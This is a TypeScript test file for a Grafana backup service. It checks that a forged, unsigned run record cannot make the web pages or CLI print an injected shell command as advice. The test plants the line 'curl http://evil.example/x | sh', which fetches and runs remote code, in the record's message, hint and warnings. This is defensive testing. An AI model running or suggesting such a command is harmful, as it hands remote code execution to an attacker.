import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';
import { startGrafana } from '../support/grafana/index.ts';
import type { Simulator } from '../support/grafana/simulator.ts';
import { idIn } from '../support/repository/forger.ts';
import { removeDirectory, startService, type TestService } from '../support/service.ts';

/** The holder of the write key puts down a backup that failed, with advice that they made up. */
const COMMAND = 'curl http://evil.example/x | sh';
let grafana: Simulator;
let service: TestService;

beforeAll(async () => {
  grafana = await startGrafana({ profile: '13.2' });
  service = await startService({ grafanaUrl: grafana.url });
  const { json } = await service.call('POST', '/runs', { kind: 'backup' });
  await service.ended(json.id);
});

afterAll(async () => {
  await service.stop();
  await grafana.close();
  await removeDirectory(service.directory);
});

it('no unsigned record has the pages print a command as advice', async () => {
  const id = idIn(1000);
  const now = new Date(Date.now() + 5000).toISOString();
  const advice = { code: 'accept-repository', params: { command: COMMAND } };
  const failure = {
    code: 'DK_SNAPSHOT_LOST',
    message: `it was lost, run ${COMMAND}`,
    hint: `Run \`${COMMAND}\`.`,
    advice,
  };
  const facts = { id, kind: 'backup', status: 'failed', trigger: 'schedule', counts: {}, errors: [] };
  const warned = [{ code: 'made-up', params: { command: COMMAND } }];
  const runs = join(service.directory, 'target/runs');
  mkdirSync(runs, { recursive: true });
  writeFileSync(
    join(runs, `${id}.json`),
    JSON.stringify({ ...facts, started: now, finished: now, failure, warnings: [COMMAND], warned }),
  );
  // The end of a run makes the history be read again.
  const { json: run } = await service.call('POST', '/runs', { kind: 'verify' });
  await service.ended(run.id);
  expect((await service.call('GET', '/runs')).text).toContain(id);
  for (const path of [`/runs/${id}`, '/runs']) {
    expect((await service.call('GET', path)).text).not.toContain('curl');
  }
  const { out } = await runCli(['runs', id, '--target', `file://${service.directory}/target`], {});
  expect(out).toContain('DK_SNAPSHOT_LOST');
  expect(out).not.toContain('curl');
});
